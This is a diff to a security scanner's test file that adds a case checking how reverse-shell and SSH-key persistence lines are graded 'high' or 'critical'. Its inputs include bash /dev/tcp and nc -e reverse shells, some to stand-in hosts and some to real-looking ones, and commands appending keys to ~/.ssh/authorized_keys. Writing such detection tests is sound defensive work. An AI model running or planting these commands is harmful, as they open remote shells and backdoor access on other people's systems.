@@ -93,6 +93,18 @@ describe('context: code blocks vs prose, instructing vs showing', () => {
     expect(sev('Bad — never install like this:')).toBe('high')
   })
 
+  it('a stand-in host caps a reverse shell at high only when no real host is on the line', () => {
+    const sev = (line: string) => scanText(line, 'x.sh').find((f) => f.category === 'network' && (f.severity === 'critical' || f.severity === 'high'))?.severity
+    expect(sev('bash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1')).toBe('high')
+    expect(sev('C:\\nc.exe -e cmd.exe 10.10.10.10 4444')).toBe('high')
+    expect(sev('bash -i >& /dev/tcp/185.23.54.2/4444 0>&1 # <note>')).toBe('critical')
+    expect(sev('nc -e /bin/sh c2.shadowrelay.net 443 # YOUR_IP')).toBe('critical')
+    const keys = (line: string) => scanText(line, 'x.sh').find((f) => f.ruleId === 'persist-authorized-keys')?.severity
+    expect(keys('echo "ssh-rsa AAAAB3..." >> ~/.ssh/authorized_keys')).toBe('high')
+    expect(keys('echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI' + 'q'.repeat(60) + ' x" >> ~/.ssh/authorized_keys # ...')).toBe('critical')
+    expect(keys('cat /tmp/k.pub >> ~/.ssh/authorized_keys')).toBe('critical')
+  })
+
   it('a script file is code throughout', () => {
     const findings = scanText('echo hi\nbash -i >& /dev/tcp/185.23.54.2/4444 0>&1\n', 'scripts/x.sh')
     expect(findings.every((f) => f.context === 'code')).toBe(true)
